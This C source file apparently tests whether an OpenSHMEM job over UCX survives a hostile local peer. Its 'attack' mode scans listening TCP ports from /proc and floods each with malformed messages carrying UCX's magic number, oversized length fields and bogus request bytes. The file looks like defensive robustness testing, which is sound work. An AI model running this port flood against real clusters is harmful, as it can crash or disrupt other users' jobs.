/* A job over hosts, and a stranger who can connect to its ports on one of them.
 *
 *     ports job       PEs access each other for a while, and find nothing changed by others
 *     ports attack    connects to every port of this network for a while, and sends what harms UCX
 */
#include <shmem.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { ROUNDS = 400, MOST = 200, VALUE = 0x5ec4e7 };
static volatile long variable = VALUE;

static int job(void) {
    shmem_init();
    int me = shmem_my_pe(), npes = shmem_n_pes();
    long *heap = shmem_malloc(4096);
    heap[0] = me;
    shmem_barrier_all();
    int changed = 0;
    for (int round = 0; round < ROUNDS; round++) {
        int other = (me + npes / 2) % npes;
        changed += shmem_long_g((long *)&variable, other) != VALUE;
        changed += shmem_long_g(heap, other) != other;
        changed += variable != VALUE || heap[0] != me;
        usleep(2000);
    }
    shmem_barrier_all();
    if (changed)
        fprintf(stderr, "PE %d: %d values changed\n", me, changed);
    else if (me == 0)
        puts("nothing changed");
    shmem_finalize();
    return changed != 0;
}

/* The ports that processes listen at in this network, as /proc shows them. */
static int ports(struct sockaddr_in *found, int room) {
    FILE *table = fopen("/proc/self/net/tcp", "r");
    char line[512];
    int count = 0;
    while (table && fgets(line, sizeof line, table) && count < room) {
        unsigned address, port, state;
        if (sscanf(line, " %*d: %x:%x %*x:%*x %x", &address, &port, &state) == 3 && state == 0x0a) {
            struct sockaddr_in it = { .sin_family = AF_INET, .sin_port = htons(port) };
            it.sin_addr.s_addr = address;
            found[count++] = it;
        }
    }
    if (table)
        fclose(table);
    return count;
}

static int attack(void) {
    /* The magic number of UCX's connections, and what may follow it. */
    static const unsigned char magic[] = { 0x78, 0x56, 0x34, 0x12, 0xbe, 0xba, 0xfe, 0xca };
    static const unsigned char large[] = { 31, 0xff, 0xff, 0xff, 0x7f }, request[] = { 0x20, 0x1d, 0, 0, 0 };
    static int open[MOST];
    int connections = 0, most = 0;
    time_t until = time(NULL) + 2;
    while (time(NULL) < until) {
        struct sockaddr_in found[64];
        int count = ports(found, 64);
        most = count > most ? count : most;
        for (int i = 0; i < count; i++) {
            for (int kind = 0; kind < 3; kind++) {
                int fd = socket(AF_INET, SOCK_STREAM, 0);
                if (fd < 0 || connect(fd, (struct sockaddr *)&found[i], sizeof found[i]) != 0) {
                    close(fd);
                    continue;
                }
                unsigned char bytes[128];
                memset(bytes, kind == 2 ? 0x41 : 0xff, sizeof bytes);
                if (kind < 2)
                    memcpy(bytes, magic, sizeof magic);
                memcpy(bytes + sizeof magic, kind == 0 ? large : request, sizeof large);
                if (send(fd, bytes, sizeof bytes, MSG_NOSIGNAL) > 0)
                    connections++;
                /* It stays open for a while. */
                int *place = &open[connections % MOST];
                if (*place > 0)
                    close(*place);
                *place = fd;
            }
        }
        usleep(1000);
    }
    printf("%d ports, %s connections\n", most, connections > MOST ? "many" : "few");
    return 0;
}

int main(int argc, char **argv) {
    return argc > 1 && strcmp(argv[1], "attack") == 0 ? attack() : job();
}
